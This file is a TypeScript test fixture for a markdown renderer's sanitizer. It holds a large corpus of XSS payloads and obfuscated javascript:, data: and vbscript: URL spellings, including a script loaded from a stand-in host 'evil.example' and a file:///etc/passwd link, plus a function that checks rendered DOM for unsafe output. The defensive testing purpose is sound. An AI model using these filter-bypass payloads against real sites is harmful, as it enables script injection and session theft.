// The XSS corpus shared by the markdown unit suite and the full-widget suite: every payload sets
// window.__xss if it ever executes, and problems() checks rendered DOM structurally.
declare global {
  interface Window { __xss?: unknown }
}

export const JS = 'window.__xss=1';

/** Ways of spelling a dangerous URL. Parentheses are avoided where the markdown link would end early. */
const SCHEMES = [
  `javascript:${JS}`, `JaVaScRiPt:${JS}`, `JAVASCRIPT:${JS}`, ` javascript:${JS}`, `\tjavascript:${JS}`,
  `java\tscript:${JS}`, `java\nscript:${JS}`, `java\rscript:${JS}`, `java\u0000script:${JS}`, `\u0001javascript:${JS}`,
  `jav&#x61;script:${JS}`, `jav&#97;script:${JS}`, `&#106;avascript:${JS}`, `javascript&colon;${JS}`, `java&Tab;script:${JS}`,
  `%6Aavascript:${JS}`, `javascript%3A${JS}`, `javascript\u200b:${JS}`, `\u00a0javascript:${JS}`,
  `data:text/html,<script>${JS}</script>`, `DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${JS}>`, `vbscript:${JS}`, `VBScript:${JS}`, 'file:///etc/passwd',
];

/** Markdown constructs that take a URL. */
const FORMS: Array<(url: string) => string> = [
  (u) => `[click](${u})`,
  (u) => `![img](${u})`,
  (u) => `[t](${u} "title")`,
  (u) => `<${u}>`,
  (u) => `[ref][r]\n\n[r]: ${u}`,
];

const HTML_PAYLOADS = [
  `<script>${JS}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${JS}">`,
  `<img src=x onerror=${JS}>`,
  `<svg onload=${JS}>`,
  `<svg><script>${JS}</script></svg>`,
  `<iframe src="javascript:${JS}"></iframe>`,
  `<iframe srcdoc="<script>${JS}</script>"></iframe>`,
  `<object data="javascript:${JS}"></object>`,
  `<embed src="javascript:${JS}">`,
  `<style>*{background:url("javascript:${JS}")}</style>`,
  `<div style="background:url(javascript:${JS})">x</div>`,
  `<p style="width:expression(${JS})">x</p>`,
  `<a href="javascript:${JS}">x</a>`,
  `<body onload=${JS}>`,
  `<details open ontoggle=${JS}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${JS}>`,
  `<br onmouseover=${JS}>`,
  `<br/onload=${JS}>`,
  `<br style="x:expression(${JS})">`,
  `<<script>script>${JS}<</script>/script>`,
  `<scr<script>ipt>${JS}</scr</script>ipt>`,
  `<!--<script>${JS}</script>-->`,
  `<![CDATA[<script>${JS}</script>]]>`,
  `<input autofocus onfocus=${JS}>`,
  `<video><source onerror=${JS}></video>`,
  `<marquee onstart=${JS}>`,
  `<base href="javascript:${JS}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
  `<link rel=stylesheet href="javascript:${JS}">`,
  `<form action="javascript:${JS}"><button>x</button></form>`,
  `\`<script>${JS}</script>\``,
  `\`\`\`html\n<script>${JS}</script>\n<img src=x onerror=${JS}>\n\`\`\``,
  `\`\`\`"><script>${JS}</script>\nx\n\`\`\``,
  `\`\`\`js onload=${JS} style=x\nx\n\`\`\``,
  `| a | <img src=x onerror=${JS}> |\n|---|---|\n| <script>${JS}</script> | <svg onload=${JS}> |`,
  `# <script>${JS}</script>`,
  `> <iframe src=javascript:${JS}>`,
  `- <img src=x onerror=${JS}>\n- [x] <svg onload=${JS}>`,
  `[<img src=x onerror=${JS}>](https://example.com)`,
  `![" onerror="${JS}](https://cdn.example.com/x.png)`,
  `![x](https://cdn.example.com/a.png" onerror="${JS})`,
  `![x](https://cdn.example.com/a.png"onerror="${JS})`,
  `[x](https://example.com" onclick="${JS})`,
  `[x](https://example.com'onmouseover='${JS})`,
  `[x](https://example.com/ "title\\" onclick=\\"${JS}")`,
  `https://example.com/"onmouseover="${JS}"`,
  `http://x.example/<script>${JS}</script>`,
  `[[x](javascript:${JS})](https://example.com)`,
  `[x](https://example.com)(javascript:${JS})`,
  `[x]((javascript:${JS}))`,
  `[x](javascript:alert(1))`,
  `[x](javascript:window.__xss=1//https://example.com)`,
  `[x](<javascript:${JS}>)`,
  `[x]( javascript:${JS})`,
  `[![y](javascript:${JS})](javascript:${JS})`,
  `[x](\\javascript:${JS})`,
  `[x](javascript\\:${JS})`,
  `**<img src=x onerror=${JS}>**`,
  `~~<svg/onload=${JS}>~~`,
  `$<img src=x onerror=${JS}>$`,
  `$$\n<script>${JS}</script>\n$$`,
  `\\(<script>${JS}</script>\\)`,
  `<a href="&#106;avascript:${JS}">x</a>`,
  `<img src="jav&#x09;ascript:${JS}">`,
  `<div onclick=${JS}>[x](https://example.com)</div>`,
  `<xss onafterscriptexecute=${JS}><script>1</script>`,
  `<template><script>${JS}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>">`,
];

export const PAYLOADS: string[] = [...HTML_PAYLOADS, ...SCHEMES.flatMap((u) => FORMS.map((form) => form(u)))];

const ALLOWED_TAGS = new Set([
  'div', 'span', 'p', 'em', 'strong', 'del', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'input',
  'a', 'img', 'code', 'pre', 'button', 'blockquote', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'hr', 'br',
]);
const FORBIDDEN = 'script, iframe, object, embed, svg, style, math, base, meta, link, form, template, video, source';
export const OPTIONS = { imageOrigins: ['https://cdn.example.com'] };

/** Returns a list of problems found in a rendered container (empty when safe). */
export function problems(root: Element): string[] {
  const found: string[] = [];
  if (root.querySelector(FORBIDDEN)) found.push(`forbidden element ${root.querySelector(FORBIDDEN)!.localName}`);
  for (const el of Array.from(root.querySelectorAll('*'))) {
    if (!ALLOWED_TAGS.has(el.localName)) found.push(`unexpected <${el.localName}>`);
    for (const attr of Array.from(el.attributes)) {
      if (attr.name.toLowerCase().startsWith('on')) found.push(`event handler ${attr.name}`);
      if (attr.name.toLowerCase() === 'style') found.push('style attribute');
    }
    if (el.localName === 'input' && (el.getAttribute('type') !== 'checkbox' || !el.hasAttribute('disabled'))) {
      found.push('enabled or non-checkbox input');
    }
  }
  for (const a of Array.from(root.querySelectorAll('[href]'))) {
    const href = a.getAttribute('href')!;
    if (a.localName !== 'a' || !/^(https?:\/\/|mailto:)/.test(href)) found.push(`bad href ${href}`);
  }
  for (const img of Array.from(root.querySelectorAll('[src]'))) {
    const src = img.getAttribute('src')!;
    if (img.localName !== 'img' || !src.startsWith('https://cdn.example.com/')) found.push(`bad src ${src}`);
  }
  for (const a of Array.from(root.querySelectorAll('a'))) if (!a.hasAttribute('href')) found.push('<a> without href');
  return found;
}

